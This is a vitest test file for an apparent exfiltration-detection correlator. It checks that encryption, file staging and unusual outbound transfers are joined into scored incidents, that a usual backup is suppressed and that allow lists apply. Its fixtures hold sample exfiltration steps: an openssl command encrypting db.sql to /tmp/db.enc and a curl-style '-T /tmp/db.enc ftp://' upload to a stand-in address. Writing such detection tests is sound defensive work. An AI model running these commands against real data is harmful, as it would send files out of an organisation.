import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AnomalyCounter } from '../core/anomalies.js';
import type { Event, FlowEvent, NetConnEvent } from '../core/events.js';
import { findingId, type Finding } from '../core/findings.js';
import { flowAsymmetry } from '../detectors/flow-asymmetry/index.js';
import { Observations } from '../store/observations.js';
import { Store } from '../store/store.js';
import { correlate } from './correlate.js';
import { defaultCorrelateOptions } from './options.js';

const DAY = 86400;
const T = 1_767_225_600 + 10 * DAY; // the attack day; the baseline covers the days before it
const options = defaultCorrelateOptions();

let dir: string;
let store: Store;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'exfilscope-correlate-'));
  store = Store.open(join(dir, 'state.db'));
});
afterEach(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

const src = (path: string, line: number) => ({ reader: 'test', path, line });

/** Feeds events to the store as one committed input, as a hunt would. */
function observe(events: Event[], findings: Finding[] = []): void {
  const o = new Observations(options);
  for (const e of events) o.observe(e);
  store.commitInput(undefined, 'hunt', findings, o);
}

function flowTo(dst: string, ts: number, out: number, inb: number, srcPort = 40000): FlowEvent {
  return { kind: 'flow', ts, host: '10.0.0.5', source: src('conn.log', 1), proto: 'tcp', src_ip: '10.0.0.5', src_port: srcPort, dst_ip: dst, dst_port: 21, bytes_out: out, bytes_in: inb };
}

function netConn(dst: string, ts: number, image: string, srcPort = 40000): NetConnEvent {
  return {
    kind: 'net_conn', ts, host: 'WS01', source: src('sysmon.evtx', 7), proto: 'tcp', src_ip: '10.0.0.5', src_port: srcPort, dst_ip: dst, dst_port: 21,
    outbound: true, process: { pid: 4242, ppid: 4100, image, command_line: `${image} -T /tmp/db.enc ftp://${dst}/`, user: 'alice' },
  };
}

/** The host-side findings the seed analytics emit (shapes as in the host-analytics issue). */
function encryptFinding(ts: number, commandLine: string, user = 'alice'): Finding {
  return {
    id: findingId('seed-encryption-before-exfil', ['WS01', commandLine], ts), technique: 'T1027', analytic: 'seed-encryption-before-exfil', risk: 9,
    ts_start: ts, ts_end: ts, host: 'WS01', process: { pid: 4100, image: '/usr/bin/openssl', command_line: commandLine, user },
    reason: 'symmetric encryption tool run', evidence: [src('auditd.log', 120)],
  };
}
function stagedFinding(ts: number, path: string, size?: number): Finding {
  return {
    id: findingId('seed-encrypted-file-staged', ['WS01', path], ts), technique: 'T1074', analytic: 'seed-encrypted-file-staged', risk: 9,
    ts_start: ts, ts_end: ts, host: 'WS01', reason: 'encrypted file staged', evidence: [src('auditd.log', 131)],
    details: size === undefined ? { path } : { path, size },
  };
}

function asymmetryFindings(flows: FlowEvent[]): Finding[] {
  const detector = flowAsymmetry.create(flowAsymmetry.options.parse({ window_seconds: [3600] }), new AnomalyCounter());
  const out: Finding[] = [];
  for (const f of flows) detector.onEvent(f, (x) => out.push(x));
  detector.flush((x) => out.push(x));
  return out;
}

/** Ten days of ordinary traffic from WS01 to its backup server and a mirror, so novelty can be judged. */
function history(): void {
  const events: Event[] = [];
  for (let d = 10; d >= 1; d--) {
    events.push(flowTo('198.51.100.7', T - d * DAY, 20_000_000, 5000, 30000 + d));
    events.push(netConn('198.51.100.7', T - d * DAY, '/usr/local/bin/backup.sh', 30000 + d));
  }
  observe(events);
}

describe('correlator', () => {
  it('joins openssl enc → /tmp/db.enc staged → matching upload to a new destination into one incident naming the process', () => {
    history();
    const size = 312_000_000;
    const upload = flowTo('203.0.113.9', T + 2400, size + 40_000, 9000);
    const transfers = asymmetryFindings([upload]);
    expect(transfers).toHaveLength(1);
    observe([netConn('203.0.113.9', T + 2400, '/usr/bin/curl')], [
      encryptFinding(T, 'openssl enc -aes-256-cbc -in db.sql -out /tmp/db.enc -k s3cret'),
      stagedFinding(T + 5, '/tmp/db.enc', size),
      ...transfers,
    ]);
    const { incidents } = correlate(store.findings(), store, options);
    expect(incidents).toHaveLength(1);
    const [incident] = incidents;
    expect(incident!.stages.map((s) => s.stage)).toEqual(['encrypt', 'stage', 'transfer']);
    expect(incident!.technique).toBe('T1048.001');
    expect(incident!.host).toBe('WS01');
    expect(incident!.dst_ip).toBe('203.0.113.9');
    expect(incident!.process?.image).toBe('/usr/bin/curl');
    expect(incident!.reason).toContain('openssl enc -aes-256-cbc');
    expect(incident!.reason).toContain('/tmp/db.enc');
    expect(incident!.reason).toContain('had not talked to before');
    expect(incident!.reason).toContain(`for a ${size}-byte staged file`);
    expect(incident!.risk).toBeGreaterThanOrEqual(9);
    expect(incident!.suppressed).toBeUndefined();
    expect(incident!.evidence.map((e) => e.path)).toEqual(['auditd.log', 'auditd.log', 'conn.log']);
  });

  it('links a staged file by name when the same file is seen leaving over FTP', () => {
    history();
    observe(
      [{ kind: 'ftp', ts: T + 600, source: src('ftp.log', 3), src_ip: '10.0.0.5', src_port: 40001, dst_ip: '203.0.113.9', dst_port: 21, command: 'STOR', arg: 'upload/db.enc' }],
      [stagedFinding(T, '/tmp/db.enc'), ...asymmetryFindings([flowTo('203.0.113.9', T + 600, 9_000_000, 100)])],
    );
    const [incident] = correlate(store.findings(), store, options).incidents;
    expect(incident!.reason).toContain('db.enc was seen leaving over FTP');
  });

  it('scores each lone stage lower than the chain', () => {
    history();
    observe([], [encryptFinding(T - 5 * DAY, 'openssl enc -aes-256-cbc -in a -out b')]);
    observe([], asymmetryFindings([flowTo('203.0.113.50', T - 3 * DAY, 90_000_000, 100)]));
    observe([], [encryptFinding(T, 'openssl enc -aes-256-cbc -in db.sql -out /tmp/db.enc'), stagedFinding(T + 1, '/tmp/db.enc', 80_000_000),
      ...asymmetryFindings([flowTo('203.0.113.9', T + 100, 80_100_000, 100)])]);
    const { incidents } = correlate(store.findings(), store, options);
    const byStages = new Map(incidents.map((i) => [i.stages.map((s) => s.stage).join('+'), i.risk]));
    expect([...byStages.keys()].sort()).toEqual(['encrypt', 'encrypt+stage+transfer', 'transfer']);
    expect(byStages.get('encrypt+stage+transfer')!).toBeGreaterThan(byStages.get('transfer')! + 2);
    expect(byStages.get('encrypt+stage+transfer')!).toBeGreaterThan(byStages.get('encrypt')! + 2);
    expect(incidents.find((i) => i.stages.length === 1 && i.stages[0]!.stage === 'encrypt')!.reason).toContain('no outbound transfer was seen');
  });

  it('suppresses the nightly backup to its usual server by baseline', () => {
    history();
    observe([netConn('198.51.100.7', T + 100, '/usr/local/bin/backup.sh', 30000)], [
      encryptFinding(T, 'gpg -c --batch --passphrase-file /etc/backup.key /var/backups/db.tar', 'backup'),
      stagedFinding(T + 30, '/var/tmp/db.tar.gpg', 20_000_000),
      ...asymmetryFindings([flowTo('198.51.100.7', T + 100, 20_100_000, 5000, 30000)]),
    ]);
    const { incidents } = correlate(store.findings(), store, options);
    expect(incidents).toHaveLength(1);
    expect(incidents[0]!.suppressed).toMatch(/^usual destination: WS01 has talked to 198\.51\.100\.7 since/);
  });

  it('applies allow-list entries to stored findings, by CIDR, process, user and analytic', () => {
    observe([netConn('203.0.113.9', T + 100, '/usr/local/bin/backup.sh')], [
      encryptFinding(T, 'gpg -c db.tar', 'backup'),
      ...asymmetryFindings([flowTo('203.0.113.9', T + 100, 20_100_000, 5000)]),
    ]);
    expect(correlate(store.findings(), store, options).incidents).toHaveLength(1);
    const cidr = store.addAllow('cidr', '203.0.113.0/24', 'offsite backup');
    const user = store.addAllow('user', 'backup');
    const { incidents, allowed } = correlate(store.findings(), store, options);
    expect(incidents).toEqual([]);
    expect(allowed.get(cidr.id)).toBe(1);
    expect(allowed.get(user.id)).toBe(1);
    store.removeAllow(cidr.id);
    store.removeAllow(user.id);
    store.addAllow('process', 'backup.sh');
    store.addAllow('analytic', 'seed-encryption-before-exfil');
    expect(correlate(store.findings(), store, options).incidents).toEqual([]);
  });

  it('reports a transfer to the host\'s beaconing C2 peer as T1041, not T1048.001', () => {
    history();
    const beacon: Finding = {
      id: findingId('beaconing', ['10.0.0.5', '192.0.2.66', 443], T - DAY), technique: 'T1041', analytic: 'beaconing', risk: 3,
      ts_start: T - DAY, ts_end: T + 3000, host: '10.0.0.5', src_ip: '10.0.0.5', dst_ip: '192.0.2.66', dst_port: 443,
      reason: 'periodic small connections', evidence: [src('conn.log', 2)],
    };
    observe([], [beacon, encryptFinding(T, 'openssl enc -aes-256-cbc -in db.sql -out /tmp/db.enc'), stagedFinding(T + 1, '/tmp/db.enc'),
      ...asymmetryFindings([flowTo('192.0.2.66', T + 600, 30_000_000, 1000)])]);
    const { incidents } = correlate(store.findings(), store, options);
    expect(incidents).toHaveLength(1);
    expect(incidents[0]!.technique).toBe('T1041');
    expect(incidents[0]!.stages.map((s) => s.stage)).toContain('beacon');
    expect(incidents[0]!.reason).toContain('C2 peer');
  });

  it('gives the same incidents, with the same IDs, whatever order the findings come in', () => {
    history();
    const findings = [encryptFinding(T, 'openssl enc -e -in x'), stagedFinding(T + 1, '/tmp/x.enc', 9_000_000),
      ...asymmetryFindings([flowTo('203.0.113.9', T + 60, 9_100_000, 100), flowTo('203.0.113.10', T + 90, 7_000_000, 100)])];
    observe([], findings);
    const a = correlate(findings, store, options).incidents;
    const b = correlate([...findings].reverse(), store, options).incidents;
    expect(b).toEqual(a);
    expect(a).toHaveLength(2);
  });
});
